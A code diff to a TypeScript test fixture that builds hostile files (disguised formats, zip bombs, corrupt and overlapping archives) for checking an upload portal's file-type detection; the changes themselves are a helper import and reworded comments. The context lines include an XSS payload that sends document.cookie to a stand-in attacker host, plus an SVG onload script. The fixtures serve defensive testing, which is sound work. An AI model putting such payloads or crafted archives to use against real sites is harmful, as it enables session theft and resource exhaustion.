@@ -2,12 +2,13 @@ import { randomBytes } from 'node:crypto';
 import { jpeg, pdf, png } from './files.ts';
 import { box, id3, isoMedia, mp3, oggPage, oggWithVideo, opus } from './media.ts';
 import { MACRO_PARTS, SHEET_PARTS, WORD_PARTS, zip, type Part } from './zip.ts';
+import { defined } from '../../support/defined.ts';
 
 const text = (content: string): Buffer => Buffer.from(content, 'latin1');
 
 const SCRIPT = '<script>fetch("https://evil.example/"+document.cookie)</script>';
 
-/** What other programs run, open or show, under whatever name it comes. */
+/** Executables, scripts, markup and other formats that the portal does not accept. */
 function otherTypes(): [string, Buffer][] {
   const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`;
   return [
@@ -98,7 +99,7 @@ function archives(): [string, Buffer][] {
     ['OpenDocument', zip([{ name: 'mimetype', content: 'application/vnd.oasis.opendocument.text', method: 0 }])],
     ['document without its contents', zip(WORD_PARTS.slice(1))],
     ['contents without a document', zip(WORD_PARTS.slice(0, 2))],
-    ['slides', zip([WORD_PARTS[0]!, { name: 'ppt/presentation.xml', content: '<p/>' }])],
+    ['slides', zip([defined(WORD_PARTS[0]), { name: 'ppt/presentation.xml', content: '<p/>' }])],
     ['both kinds', zip([...WORD_PARTS, ...SHEET_PARTS.slice(1)])],
     ['macros by type', zip(MACRO_PARTS)],
     ['1,000:1', wordWith(zeros(20 * MB))],
@@ -123,12 +124,12 @@ function archives(): [string, Buffer][] {
   ];
 }
 
-/** Parts within the ratio, one by one, that declare 300 MB together. */
+/** Parts that each keep the compression ratio but declare 300 MB together. */
 function heavy(): Part[] {
   return Array.from({ length: 200 }, (_, at) => ({ name: `word/media/${at}`, content: randomBytes(5000), declared: 1_500_000 }));
 }
 
-/** The packed bytes of the list of contents are no deflate stream. */
+/** The compressed content list is not a valid deflate stream. */
 function brokenContents(): Buffer {
   const bytes = zip(WORD_PARTS);
   const packed = 30 + '[Content_Types].xml'.length;
@@ -136,7 +137,7 @@ function brokenContents(): Buffer {
   return bytes;
 }
 
-/** The third entry's record points at the second's bytes. */
+/** The directory entry of the third file points at the second file. */
 function overlapping(): Buffer {
   const bytes = zip(WORD_PARTS);
   const records = [0, 1, 2].map((index) => {
@@ -144,11 +145,11 @@ function overlapping(): Buffer {
     for (let step = 0; step < index; step++) at = bytes.indexOf('PK\x01\x02', at + 4, 'latin1');
     return at;
   });
-  bytes.writeUInt32LE(bytes.readUInt32LE(records[1]! + 42), records[2]! + 42);
+  bytes.writeUInt32LE(bytes.readUInt32LE(defined(records[1]) + 42), defined(records[2]) + 42);
   return bytes;
 }
 
-/** Files that must not be taken for any of the allowed kinds. */
+/** Files that must not be detected as an accepted kind. */
 export async function hostileFiles(): Promise<[name: string, bytes: Buffer][]> {
   return [...otherTypes(), ...(await pretenders()), ...archives()];
 }
